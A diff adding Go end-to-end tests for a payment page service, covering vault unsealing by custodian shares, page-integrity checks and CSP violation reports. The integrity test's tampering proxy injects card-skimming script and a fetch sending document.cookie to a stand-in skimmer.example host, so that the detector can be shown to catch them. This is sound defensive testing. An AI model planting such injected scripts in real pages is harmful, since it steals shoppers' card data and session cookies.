@@ -1,0 +1,233 @@
+package e2e
+
+import (
+	"context"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/paypage/paypage/pkg/pagecheck"
+	"github.com/paypage/paypage/pkg/vault"
+	"github.com/paypage/paypage/pkg/web"
+)
+
+// TestSealedUntilCustodiansUnseal starts a service with --unseal-shares 3
+// and no master key: pages and APIs answer 503 and /readyz says sealed
+// until three custodians' shares are given; wrong, repeated and mixed-up
+// shares are refused; seal wipes the key and the service is sealed again.
+func TestSealedUntilCustodiansUnseal(t *testing.T) {
+	data := filepath.Join(t.TempDir(), "data")
+	// The deployment as it was: a master key file, a merchant.
+	first := newEnv(t, envOpts{data: data})
+	first.stop()
+	key, err := vault.ReadMasterKeyFile(filepath.Join(data, "master.key"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	shares, err := vault.SplitMasterKey(key, 5, 3)
+	if err != nil {
+		t.Fatal(err)
+	}
+	others, _ := vault.SplitMasterKey(make([]byte, 32), 5, 3)
+	if err := os.Remove(filepath.Join(data, "master.key")); err != nil { // the custodians hold it now
+		t.Fatal(err)
+	}
+
+	e := newEnv(t, envOpts{data: data, noAccounts: true, unseal: 3})
+	e.key, e.merchant = first.key, first.merchant
+	sealed := func(want bool) {
+		t.Helper()
+		status, body, _ := e.api("GET", "/readyz", "", nil)
+		if want != (status == 503 && body["status"] == "sealed") {
+			t.Fatalf("readyz %d %v, sealed: want %v", status, body, want)
+		}
+		if status, body, _ := e.api("POST", "/v1/sessions", e.key, map[string]any{"amount": 100, "currency": "KZT",
+			"success_url": "https://shop.example/ok", "cancel_url": "https://shop.example/no"}); want != (status == 503) {
+			t.Fatalf("create session %d %v, sealed: want %v", status, body, want)
+		} else if want && body["error"].(map[string]any)["code"] != "unavailable" {
+			t.Fatalf("sealed API answer %v", body)
+		}
+		if p := e.browser().get("/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa"); want != (p.status == 503) {
+			t.Fatalf("pay page %d, sealed: want %v", p.status, want)
+		}
+	}
+	sealed(true)
+	if status, _, _ := e.api("GET", "/healthz", "", nil); status != 200 {
+		t.Fatalf("healthz while sealed: %d", status)
+	}
+	if status, _, _ := e.api("GET", web.ManifestPath, "", nil); status != 200 {
+		t.Fatalf("manifest while sealed: %d", status)
+	}
+	ctx := context.Background()
+	if _, err := e.app.Unseal(ctx, shares[0].Text); err != nil {
+		t.Fatal(err)
+	}
+	for _, bad := range []struct{ share, want string }{
+		{shares[0].Text, "given already"},
+		{others[1].Text, "mixed-up"},
+		{shares[1].Text[:len(shares[1].Text)-1] + "x", "check value"},
+	} {
+		if _, err := e.app.Unseal(ctx, bad.share); err == nil || !strings.Contains(err.Error(), bad.want) {
+			t.Fatalf("share refused with %v, want %q", err, bad.want)
+		}
+	}
+	if p, err := e.app.Unseal(ctx, shares[2].Text); err != nil || !p.Sealed || p.Have != 2 {
+		t.Fatalf("second share: %+v %v", p, err)
+	}
+	sealed(true)
+	if p, err := e.app.Unseal(ctx, shares[4].Text); err != nil || p.Sealed {
+		t.Fatalf("third share: %+v %v", p, err)
+	}
+	sealed(false)
+	b := e.browser()
+	id := e.session(nil)["id"].(string)
+	if p := b.follow(b.pay(id, "4242 4242 4242 4242", "123")); !strings.Contains(p.body, "Payment successful") {
+		t.Fatalf("payment after unseal:\n%s", p.body)
+	}
+	e.app.Seal()
+	sealed(true)
+	if !strings.Contains(e.logs.String(), "vault sealed") {
+		t.Fatal("sealing not logged")
+	}
+}
+
+// TestPageIntegrity serves the page manifest, checks a live page against
+// it, and catches a tampering proxy that injects scripts, changes the
+// script's content or loosens a security header.
+func TestPageIntegrity(t *testing.T) {
+	e := newEnv(t, envOpts{})
+	want, err := web.BuildManifest(e.url)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var served pagecheck.Manifest
+	resp, err := http.Get(e.url + web.ManifestPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := jsonDecode(resp.Body, &served); err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if d := pagecheck.Compare(served, want); d != nil || len(served.Scripts) != 1 || len(served.Styles) != 1 ||
+		!strings.HasPrefix(served.Scripts[0].SHA384, "sha384-") || served.Headers["Content-Security-Policy"] == "" {
+		t.Fatalf("served manifest %+v: %v", served, d)
+	}
+	id := e.session(nil)["id"].(string)
+	diffs, err := pagecheck.Verify(context.Background(), http.DefaultClient, e.url+"/pay/"+id, want)
+	if err != nil || len(diffs) != 0 {
+		t.Fatalf("the untouched page differs: %v %v", diffs, err)
+	}
+
+	target, _ := url.Parse(e.url)
+	proxy := httputil.NewSingleHostReverseProxy(target)
+	proxy.ModifyResponse = func(r *http.Response) error {
+		b, _ := io.ReadAll(r.Body)
+		r.Body.Close()
+		s := string(b)
+		switch {
+		case strings.HasPrefix(r.Header.Get("Content-Type"), "text/html"):
+			s = strings.Replace(s, "</head>", `<script src="https://skimmer.example/s.js"></script><script>new Image().src="//x/"+document.forms[0].number.value</script></head>`, 1)
+			r.Header.Set("Content-Security-Policy", strings.Replace(r.Header.Get("Content-Security-Policy"), "script-src 'self'", "script-src 'self' https://skimmer.example", 1))
+			r.Header.Del("X-Frame-Options")
+		case strings.HasPrefix(r.Request.URL.Path, "/static/pay.js"):
+			s += "\n;fetch('https://skimmer.example/'+document.cookie)"
+		}
+		r.Body = io.NopCloser(strings.NewReader(s))
+		r.ContentLength = int64(len(s))
+		r.Header.Del("Content-Length")
+		return nil
+	}
+	tamper := httptest.NewServer(proxy)
+	defer tamper.Close()
+	diffs, err = pagecheck.Verify(context.Background(), http.DefaultClient, tamper.URL+"/pay/"+id, want)
+	if err != nil {
+		t.Fatal(err)
+	}
+	all := strings.Join(diffs, "\n")
+	for _, w := range []string{
+		"script https://skimmer.example/s.js is loaded from another origin",
+		"inline script sha384-",
+		"header Content-Security-Policy is",
+		"header X-Frame-Options is missing",
+		"/static/pay.js?v=",
+	} {
+		if !strings.Contains(all, w) {
+			t.Errorf("tampering not named: %q in\n%s", w, all)
+		}
+	}
+	if !strings.Contains(all, "has content sha384-") {
+		t.Errorf("changed script content not caught:\n%s", all)
+	}
+}
+
+// TestCSPReports takes violation reports in both formats, keeps only the
+// directive, the blocked origin and the page's route, counts them, and
+// refuses a flood.
+func TestCSPReports(t *testing.T) {
+	e := newEnv(t, envOpts{metrics: true})
+	post := func(ctype, body string) int {
+		resp, err := http.Post(e.url+"/csp-report", ctype, strings.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	pan := "4242424242424242"
+	if s := post("application/csp-report", `{"csp-report":{"document-uri":"`+e.url+`/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa?number=`+pan+`","violated-directive":"script-src-elem","effective-directive":"script-src-elem","blocked-uri":"https://skimmer.example/s.js?card=`+pan+`"}}`); s != 204 {
+		t.Fatalf("report-uri format: %d", s)
+	}
+	if s := post("application/reports+json", `[{"type":"csp-violation","url":"`+e.url+`/pay/x","body":{"documentURL":"`+e.url+`/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa/kaspi","effectiveDirective":"img-src","blockedURL":"https://evil.example/`+pan+`.png","sample":"`+pan+`"}}]`); s != 204 {
+		t.Fatalf("Reporting API format: %d", s)
+	}
+	if s := post("application/json", strings.Repeat("x", 20<<10)); s != 413 && s != 400 {
+		t.Fatalf("oversized report: %d", s)
+	}
+	ents, err := e.app.Store().Read(context.Background(), "csp-reports", "", 10)
+	if err != nil || len(ents) != 2 {
+		t.Fatalf("recorded %d reports: %v", len(ents), err)
+	}
+	kept := string(ents[0].Data) + string(ents[1].Data) + e.logs.String()
+	if strings.Contains(kept, pan) || strings.Contains(kept, "ses_aaaa") {
+		t.Fatalf("a report kept more than directive, origin and route:\n%s", kept)
+	}
+	for _, w := range []string{`"directive":"script-src-elem"`, `"blocked":"https://skimmer.example"`, `"page":"/pay/{id}"`, `"page":"/pay/{id}/kaspi"`, `"directive":"img-src"`} {
+		if !strings.Contains(kept, w) {
+			t.Errorf("report record lacks %s:\n%s", w, kept)
+		}
+	}
+	metrics := get(t, e.metrics+"/metrics")
+	for _, w := range []string{`paypage_csp_violations_total{directive="script-src-elem"} 1`, `paypage_csp_violations_total{directive="img-src"} 1`} {
+		if !strings.Contains(metrics, w) {
+			t.Errorf("metrics lack %s", w)
+		}
+	}
+	// A flood is cut off by the rate limit, and counted.
+	refused := 0
+	for range 100 {
+		if post("application/csp-report", `{"csp-report":{"effective-directive":"style-src","blocked-uri":"inline"}}`) == 429 {
+			refused++
+		}
+	}
+	if refused == 0 || !strings.Contains(get(t, e.metrics+"/metrics"), "paypage_csp_reports_dropped_total") {
+		t.Fatal("100 reports at once were all taken")
+	}
+}
+
+func get(t *testing.T, u string) string {
+	t.Helper()
+	resp, err := http.Get(u)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	return string(b)
+}
